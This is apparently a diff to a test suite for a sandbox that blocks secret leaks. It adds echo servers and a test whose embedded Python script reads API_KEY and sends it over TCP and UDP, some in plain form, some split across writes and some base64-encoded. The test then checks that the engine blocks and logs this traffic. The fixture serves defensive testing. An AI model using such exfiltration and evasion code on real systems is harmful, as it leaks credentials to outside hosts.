@@ -35,6 +35,8 @@ before(async () => {
   world = World.create();
   world.startDnsServer();
   await world.startProcess([process.execPath, `${TESTBED_JS}servers.js`, "https", "443", `${dir}/srv.pem`, `${dir}/srv.key`, record]);
+  await world.startServer("tcp-echo", 7);
+  await world.startServer("udp-echo", 7);
 });
 after(() => {
   world?.teardown();
@@ -124,6 +126,46 @@ raw('allowed.test', [req('other.test', '/host-mismatch', 'X-K: %s\\r\\n' % k)])
   for (const form of ["raw", "base64", "percent-encoded", "JSON-escaped"]) assert.ok(v.some((e) => e.detail.startsWith(form)), `a ${form} violation`);
   assert.ok(v.some((e) => /query name/.test(e.detail)), "the DNS name");
   assert.doesNotMatch(readFileSync(audit, "utf8"), new RegExp(VALUE), "never the value in the audit log");
+});
+
+test("the guest's own TCP (plain HTTP, any port) and UDP carrying a placeholder are stopped in the engine, also split across writes", { skip }, async () => {
+  const audit = `${dir}/audit-engine.jsonl`;
+  writeFileSync(`${dir}/plain.py`, `import os, socket, time, base64
+k = os.environ['API_KEY']
+def tcp(chunks):
+    s = socket.create_connection(('${WORLD_IP4}', 7), timeout=3)
+    got = b''
+    try:
+        for c in chunks:
+            s.sendall(c.encode()); time.sleep(0.1)
+        s.shutdown(socket.SHUT_WR)
+        while True:
+            d = s.recv(4096)
+            if not d: break
+            got += d
+        print('tcp echoed', len(got), k.encode() in got)
+    except Exception as e:
+        print('tcp', type(e).__name__, k.encode() in got)
+tcp(['GET /?k=%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % k])
+tcp(['hello ' + k[:12], k[12:] + ' world'])
+tcp(['data ' + base64.b64encode(k.encode()).decode()])
+tcp(['nothing secret here'])
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
+for msg in ['udp ' + k, 'udp clean']:
+    u.sendto(msg.encode(), ('${WORLD_IP4}', 7))
+    try: print('udp echoed', u.recv(100).decode().startswith('udp'))
+    except Exception as e: print('udp', type(e).__name__)
+`);
+  const r = await run(`python3 ${dir}/plain.py`, ["--stats", "--secret-violation", "block-and-log", "--audit-log", audit]);
+  assert.equal(r.code, 0, r.stderr);
+  const lines = r.stdout.trim().split("\n");
+  assert.equal(lines.length, 6, r.stdout);
+  for (const l of lines.slice(0, 3)) assert.match(l, /^tcp (ConnectionResetError|BrokenPipeError|OSError) False$/, "reset, nothing echoed");
+  assert.deepEqual(lines.slice(3), ["tcp echoed 19 False", "udp TimeoutError", "udp echoed True"], "clean traffic passes; the datagram was dropped");
+  assert.equal(World.stats(r.stderr).SECRET_VIOLATIONS, 4);
+  const v = readFileSync(audit, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as { kind: string; detail: string; repeated?: number }).filter((e) => e.kind === "secret-violation");
+  assert.ok(v.some((e) => /a TCP stream \(203\.0\.113\.10:7\)/.test(e.detail)), JSON.stringify(v));
+  assert.ok(v.some((e) => /a UDP datagram \(203\.0\.113\.10:7\)/.test(e.detail)), JSON.stringify(v));
 });
 
 test("block-and-terminate: the command is killed, the sandbox destroyed, moat exits 125 saying why", { skip }, async () => {
